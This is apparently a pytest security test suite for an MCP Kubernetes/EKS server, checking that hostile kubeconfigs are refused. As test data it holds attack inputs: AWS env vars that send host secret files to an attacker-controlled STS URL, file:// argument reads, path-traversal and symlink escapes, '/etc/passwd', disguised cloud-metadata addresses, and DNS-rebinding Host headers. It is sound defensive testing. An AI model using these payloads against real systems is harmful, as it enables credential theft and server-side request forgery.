"""An attacker drives the real MCP server (stdio and streamable HTTP) with hostile kubeconfigs:
each attack of issue 13 (trust items) is refused, and a listener on 127.0.0.1 standing in for
the attacker receives nothing: no connection, no file content, no token."""

from __future__ import annotations

import os
import secrets
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx2
import pytest
import pytest_asyncio
import trustme
import yaml
from attacker import Attacker
from mcp import Client
from mcp_helpers import HTTPServer, call_error, call_ok, client_over, held, stdio_client

from kom_async.lab import EKSLab, LabCluster

pytestmark = pytest.mark.asyncio(loop_scope="module")

SECRET = "host-secret-" + secrets.token_hex(12)
EXEC_V1B1 = "client.authentication.k8s.io/v1beta1"


@dataclass(frozen=True)
class Dirs:
    allowed: Path  # the server's --kubeconfig-dir
    refs: Path  # a folder inside it (not preloaded) for kubeconfigs and referenced files
    outside: Path  # anywhere else on the host
    secret: Path  # a host file outside the allowed directory
    token: Path  # a host token file inside the allowed directory


@pytest.fixture(scope="module")
def dirs(tmp_path_factory: pytest.TempPathFactory) -> Dirs:
    root = tmp_path_factory.mktemp("trust")
    allowed, outside = root / "kube", root / "outside"
    refs = allowed / "refs"
    refs.mkdir(parents=True)
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text(SECRET)
    token = refs / "token.txt"
    token.write_text(SECRET)
    return Dirs(allowed, refs, outside, secret, token)


@pytest_asyncio.fixture(scope="module", loop_scope="module", params=["stdio", "http"])
async def client(request: pytest.FixtureRequest, lab: EKSLab, dirs: Dirs) -> AsyncIterator[Client]:
    """One server per transport with default flags and --kubeconfig-dir <allowed>."""
    args = ("--kubeconfig-dir", str(dirs.allowed))
    async for c in held(lambda: client_over(request.param, lab, *args)):
        yield c


def kubeconfig(server: str, user: dict[str, Any], **cluster: Any) -> str:
    """A one-context kubeconfig, as YAML (a JSON string would reach the tool as an object)."""
    return yaml.safe_dump(
        {
            "apiVersion": "v1",
            "kind": "Config",
            "current-context": "evil",
            "contexts": [{"name": "evil", "context": {"cluster": "evil", "user": "evil"}}],
            "clusters": [{"name": "evil", "cluster": {"server": server, **cluster}}],
            "users": [{"name": "evil", "user": user}],
        },
        sort_keys=False,
    )


def eks_user(cluster: LabCluster, env: dict[str, str] | None = None, *extra: str) -> dict[str, Any]:
    args = ["--region", cluster.region, "eks", "get-token", "--cluster-name", cluster.name, *extra]
    spec: dict[str, Any] = {"apiVersion": EXEC_V1B1, "command": "aws", "args": args}
    if env:
        spec["env"] = [{"name": k, "value": v} for k, v in env.items()]
    return {"exec": spec}


async def registered_ids(client: Client) -> set[str]:
    return {c["id"] for c in (await call_ok(client, "list_k8s_clusters"))["clusters"]}


async def refused(client: Client, tool: str, *needles: str, **arguments: Any) -> str:
    """The tool fails with a 'refused' error containing ``needles``, no secret, nothing registered."""
    before = await registered_ids(client)
    error = await call_error(client, tool, **arguments)
    assert "refused" in error, error
    for needle in needles:
        assert needle in error, error
    assert SECRET not in error and "k8s-aws-v1." not in error
    assert await registered_ids(client) == before
    return error


# -- exec env that redirects the in-process AWS credential chain --------------------------------
async def test_web_identity_env_cannot_post_a_host_file_to_the_attackers_sts(
    lab: EKSLab, cluster: LabCluster, client: Client, dirs: Dirs
) -> None:
    async with Attacker.listening() as evil:
        env = {
            "AWS_ACCESS_KEY_ID": "",
            "AWS_SECRET_ACCESS_KEY": "",
            "AWS_ROLE_ARN": "arn:aws:iam::123456789012:role/victim",
            "AWS_WEB_IDENTITY_TOKEN_FILE": str(dirs.secret),
            "AWS_ENDPOINT_URL_STS": evil.url,
        }
        config = kubeconfig(
            cluster.server, eks_user(cluster, env), **{"certificate-authority-data": cluster.ca_data}
        )
        for tool in ("register_eks_cluster", "register_k8s_cluster"):
            await refused(client, tool, "AWS_WEB_IDENTITY_TOKEN_FILE", kubeconfig=config)
        evil.assert_received_nothing(SECRET)


async def test_container_credentials_env_cannot_fetch_an_internal_url_with_a_host_file(
    lab: EKSLab, cluster: LabCluster, client: Client, dirs: Dirs
) -> None:
    async with Attacker.listening() as evil:
        env = {
            "AWS_ACCESS_KEY_ID": "",
            "AWS_SECRET_ACCESS_KEY": "",
            "AWS_CONTAINER_CREDENTIALS_FULL_URI": f"{evil.url}/creds",
            "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE": str(dirs.secret),
        }
        config = kubeconfig(
            cluster.server, eks_user(cluster, env), **{"certificate-authority-data": cluster.ca_data}
        )
        error = await refused(
            client, "register_eks_cluster", "AWS_CONTAINER_CREDENTIALS_FULL_URI", kubeconfig=config
        )
        assert "/creds" not in error
        evil.assert_received_nothing(SECRET)


@pytest.mark.parametrize(
    "name",
    [
        "AWS_ENDPOINT_URL",
        "AWS_ENDPOINT_URL_STS",
        "AWS_ENDPOINT_URL_EKS",
        "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
        "AWS_CONFIG_FILE",
        "AWS_SHARED_CREDENTIALS_FILE",
        "AWS_CA_BUNDLE",
        "KUBECONFIG",
        "HTTPS_PROXY",
        "https_proxy",
        "ALL_PROXY",
    ],
)
async def test_exec_env_that_points_the_plugin_elsewhere_is_refused(
    lab: EKSLab, cluster: LabCluster, client: Client, name: str
) -> None:
    async with Attacker.listening() as evil:
        config = kubeconfig(
            cluster.server,
            eks_user(cluster, {name: evil.url, "AWS_REGION": cluster.region}),
            **{"certificate-authority-data": cluster.ca_data},
        )
        await refused(client, "register_eks_cluster", name, kubeconfig=config)
        evil.assert_received_nothing()


async def test_aws_arguments_that_read_a_file_are_refused(
    lab: EKSLab, cluster: LabCluster, client: Client, dirs: Dirs
) -> None:
    user = eks_user(cluster)
    user["exec"]["args"][-1] = f"file://{dirs.secret}"  # --cluster-name file://... : the CLI reads it
    config = kubeconfig(cluster.server, user, **{"certificate-authority-data": cluster.ca_data})
    await refused(client, "register_k8s_cluster", "file://", kubeconfig=config)


# -- the host's EKS identity sent to a server the client chose ---------------------------------
async def test_the_hosts_eks_token_never_goes_to_a_plain_http_server(
    lab: EKSLab, cluster: LabCluster, client: Client
) -> None:
    async with Attacker.listening() as evil:
        config = kubeconfig(evil.url, eks_user(cluster))  # --cluster-name <victim>, no env
        for tool in ("register_eks_cluster", "register_k8s_cluster"):
            await refused(client, tool, "https", kubeconfig=config)
        evil.assert_received_nothing("k8s-aws-v1.")


async def test_the_hosts_eks_token_never_goes_to_an_https_server_eks_does_not_report(
    lab: EKSLab, cluster: LabCluster, client: Client
) -> None:
    async with Attacker.listening(tls=True) as evil:
        config = kubeconfig(evil.url, eks_user(cluster), **{"certificate-authority-data": evil.ca_data})
        error = await refused(
            client, "register_eks_cluster", "eks:DescribeCluster", "--allow-server", kubeconfig=config
        )
        assert cluster.server in error  # what EKS does report
        # another lab cluster's endpoint is not this cluster's either
        other = await lab.create_cluster(f"{cluster.name}-other")
        config = kubeconfig(other.server, eks_user(cluster), **{"certificate-authority-data": other.ca_data})
        await refused(client, "register_eks_cluster", "not confirmed", kubeconfig=config)
        evil.assert_received_nothing("k8s-aws-v1.")


async def test_without_describe_cluster_the_registration_says_which_permission_is_missing(
    lab: EKSLab, cluster: LabCluster, client: Client
) -> None:
    config = kubeconfig(cluster.server, eks_user(cluster), **{"certificate-authority-data": cluster.ca_data})
    lab.aws_fault("eks", status=403)
    try:
        await refused(
            client, "register_eks_cluster", "eks:DescribeCluster", "--allow-server", kubeconfig=config
        )
    finally:
        lab.clear_aws_faults()


async def test_an_eks_kubeconfig_whose_server_eks_confirms_registers_and_works(
    lab: EKSLab, cluster: LabCluster, client: Client, dirs: Dirs
) -> None:
    text = lab.kubeconfig(cluster.name, env={"AWS_REGION": cluster.region})  # the server has the AWS setup
    registered = await call_ok(
        client, "register_eks_cluster", kubeconfig=text, cluster_id=f"ok-{cluster.name}"
    )
    assert registered["registered"]["is_eks"] is True
    pods = await call_ok(client, "list_k8s_pod", namespace="demo", cluster=f"ok-{cluster.name}")
    assert pods["count"] == 3
    path = lab.write_kubeconfig(dirs.refs / f"{cluster.name}.yaml", cluster.name, env=None)
    registered = await call_ok(
        client, "register_k8s_cluster", kubeconfig=str(path), cluster_id=f"path-{cluster.name}"
    )
    assert registered["registered"]["is_eks"] is True


async def test_an_untrusted_kubeconfig_with_its_own_token_may_not_use_plain_http(client: Client) -> None:
    """The https-only rule on its own: no EKS, no host credential, no pin; only this rule stands
    between the agent's token and a plain-http listener."""
    async with Attacker.listening() as evil:
        config = kubeconfig(evil.url, {"token": SECRET})
        await refused(client, "register_k8s_cluster", "is not https", kubeconfig=config)
        evil.assert_received_nothing(SECRET)


METADATA_SPELLINGS = [
    "https://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463",  # circled digits
    "https://\uff11\uff16\uff19\uff0e\uff12\uff15\uff14\uff0e\uff11\uff16\uff19\uff0e\uff12\uff15\uff14",  # fullwidth
    "https://169\u3002254\u3002169\u3002254",  # ideographic full stops
    "https://[fd00:ec2::23]",  # EKS Pod Identity agent
    "https://[64:ff9b::a9fe:aa02]",  # ECS credentials through NAT64
]


@pytest.mark.parametrize("server", METADATA_SPELLINGS)
async def test_no_spelling_of_a_metadata_address_registers(lab: EKSLab, client: Client, server: str) -> None:
    """Had it registered, list_k8s_api_resources would connect to 169.254.169.254:443 with the token."""
    await refused(
        client,
        "register_k8s_cluster",
        "link-local / cloud metadata",
        kubeconfig=kubeconfig(server, {"token": SECRET}),
    )


# -- files of the host ----------------------------------------------------------------------------
async def test_the_operators_client_certificate_files_never_go_to_a_server_the_agent_names(
    lab: EKSLab, client: Client, dirs: Dirs
) -> None:
    operator = trustme.CA(organization_name="operator")
    admin = operator.issue_cert("admin", common_name="operator-admin")
    crt, key = dirs.refs / "admin.crt", dirs.refs / "admin.key"
    crt.write_bytes(admin.cert_chain_pems[0].bytes())
    key.write_bytes(admin.private_key_pem.bytes())
    async with Attacker.listening(tls=True, client_ca=operator) as evil:
        user = {"client-certificate": str(crt), "client-key": str(key)}
        config = kubeconfig(evil.url, user, **{"certificate-authority-data": evil.ca_data})
        await refused(
            client,
            "register_k8s_cluster",
            "client certificate or key file",
            "--allow-server",
            kubeconfig=config,
        )
        evil.assert_received_nothing()


async def test_an_allowed_server_gets_the_host_token_only_over_the_operators_ca(
    lab: EKSLab, cluster: LabCluster, dirs: Dirs, tmp_path: Path
) -> None:
    """--allow-server <impostor>: the kubeconfig's own CA is refused for the host's token file;
    --allow-server URL=CAFILE makes the operator's CA the one that counts."""
    async with Attacker.listening(tls=True) as evil:
        args = ("--kubeconfig-dir", str(dirs.allowed), "--allow-server", evil.url)
        async with stdio_client(lab, *args) as agent:
            config = kubeconfig(
                evil.url, {"tokenFile": str(dirs.token)}, **{"certificate-authority-data": evil.ca_data}
            )
            await refused(
                agent,
                "register_k8s_cluster",
                "certificate-authority",
                "--allow-server URL=CA_FILE",
                kubeconfig=config,
            )
        evil.assert_received_nothing(SECRET)
    token = dirs.refs / f"lab-token-{cluster.name}"
    token.write_text(lab.static_token(cluster.name))
    ca = tmp_path / "ca.pem"
    ca.write_text(cluster.ca_pem)
    args = ("--kubeconfig-dir", str(dirs.allowed), "--allow-server", f"{cluster.server}={ca}")
    async with stdio_client(lab, *args) as agent:
        config = kubeconfig(cluster.server, {"tokenFile": str(token)})
        await call_ok(agent, "register_k8s_cluster", kubeconfig=config, cluster_id="vouched")
        assert (await call_ok(agent, "list_k8s_pod", namespace="demo", cluster="vouched"))["count"] == 3


async def test_a_host_token_file_never_goes_to_a_server_the_operator_did_not_allow(
    lab: EKSLab, cluster: LabCluster, client: Client, dirs: Dirs
) -> None:
    async with Attacker.listening(tls=True) as evil:
        inside = kubeconfig(
            evil.url, {"tokenFile": str(dirs.token)}, **{"certificate-authority-data": evil.ca_data}
        )
        await refused(client, "register_k8s_cluster", "tokenFile", "--allow-server", kubeconfig=inside)
        outside = kubeconfig(
            evil.url, {"tokenFile": str(dirs.secret)}, **{"certificate-authority-data": evil.ca_data}
        )
        await refused(client, "register_k8s_cluster", "outside", kubeconfig=outside)
        evil.assert_received_nothing(SECRET)


async def test_file_references_outside_the_kubeconfig_dir_are_refused_before_they_are_read(
    lab: EKSLab, cluster: LabCluster, client: Client, dirs: Dirs
) -> None:
    link = dirs.refs / f"link-{cluster.name}.pem"
    os.symlink(dirs.secret, link)  # inside the allowed dir, pointing out of it
    escape = str(dirs.refs / ".." / ".." / "outside" / "secret.txt")
    token = {"token": lab.static_token(cluster.name)}
    for reference in (str(dirs.secret), str(link), escape):
        for config in (
            kubeconfig(cluster.server, token, **{"certificate-authority": reference}),
            kubeconfig(cluster.server, {"client-certificate": reference, "client-key": reference}),
        ):
            await refused(client, "register_k8s_cluster", "outside", kubeconfig=config)


async def test_kubeconfig_path_is_limited_to_the_kubeconfig_dir(
    lab: EKSLab, cluster: LabCluster, client: Client, dirs: Dirs
) -> None:
    victim = lab.write_kubeconfig(dirs.outside / f"victim-{cluster.name}", cluster.name, static_token=True)
    link = dirs.refs / f"victim-link-{cluster.name}"
    os.symlink(victim, link)
    for path in (
        "/etc/passwd",
        str(victim),
        str(link),
        f"{dirs.refs}/../../outside/{victim.name}",
        str(dirs.secret),
    ):
        await refused(client, "register_k8s_cluster", "outside", kubeconfig=path)
        await refused(client, "register_eks_cluster", "outside", kubeconfig=path)  # content or a path


# -- transport settings ---------------------------------------------------------------------------
async def test_skipping_tls_verification_or_a_proxy_is_refused(
    lab: EKSLab, cluster: LabCluster, client: Client
) -> None:
    token = {"token": lab.static_token(cluster.name)}
    async with Attacker.listening(tls=True) as evil, Attacker.listening() as proxy:
        await refused(
            client,
            "register_k8s_cluster",
            "insecure-skip-tls-verify",
            kubeconfig=kubeconfig(evil.url, token, **{"insecure-skip-tls-verify": True}),
        )
        await refused(
            client,
            "register_k8s_cluster",
            "proxy",
            kubeconfig=kubeconfig(
                cluster.server,
                token,
                **{"certificate-authority-data": cluster.ca_data, "proxy-url": proxy.url},
            ),
        )
        evil.assert_received_nothing()
        proxy.assert_received_nothing()


# -- the server itself ----------------------------------------------------------------------------
INITIALIZE = {
    "jsonrpc": "2.0",
    "id": 1,
    "method": "initialize",
    "params": {
        "protocolVersion": "2025-06-18",
        "capabilities": {},
        "clientInfo": {"name": "x", "version": "0"},
    },
}


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.2"])
async def test_a_forged_host_header_is_refused_on_every_loopback_address(lab: EKSLab, host: str) -> None:
    """DNS rebinding: a web page on attacker.example resolving to 127.0.0.x makes the browser send
    Host: attacker.example; the server must not answer it."""
    headers = {"Accept": "application/json, text/event-stream", "Content-Type": "application/json"}
    async with HTTPServer.run(lab, host=host) as server:
        port = server.url.split(":")[2].split("/")[0]
        async with httpx2.AsyncClient() as http:
            for forged in (
                f"attacker.example:{port}",
                "attacker.example",
                f"127.0.0.1.attacker.example:{port}",
            ):
                response = await http.post(
                    server.url, json=INITIALIZE, headers=dict(headers, Host=forged, Origin=f"http://{forged}")
                )
                assert response.status_code == 421, forged
            response = await http.post(server.url, json=INITIALIZE, headers=headers)
            assert response.status_code == 200


async def test_read_only_registry_refuses_register_and_unregister(
    lab: EKSLab, cluster: LabCluster, dirs: Dirs
) -> None:
    preloaded = lab.write_kubeconfig(
        dirs.outside / f"preload-{cluster.name}.yaml", cluster.name, static_token=True
    )
    args = ("--read-only", "--read-only-registry", "--kubeconfig", str(preloaded))
    async with stdio_client(lab, *args) as client:
        (only,) = await registered_ids(client)
        for tool, arguments in (
            ("register_k8s_cluster", {"kubeconfig": lab.kubeconfig(cluster.name, static_token=True)}),
            ("register_eks_cluster_by_name", {"cluster_name": cluster.name, "region": cluster.region}),
            ("unregister_k8s_cluster", {"cluster": only}),
        ):
            error = await call_error(client, tool, **arguments)
            assert "refused" in error and "--read-only-registry" in error, tool
        assert await registered_ids(client) == {only}
        assert (await call_ok(client, "list_k8s_pod", namespace="demo"))["count"] == 3
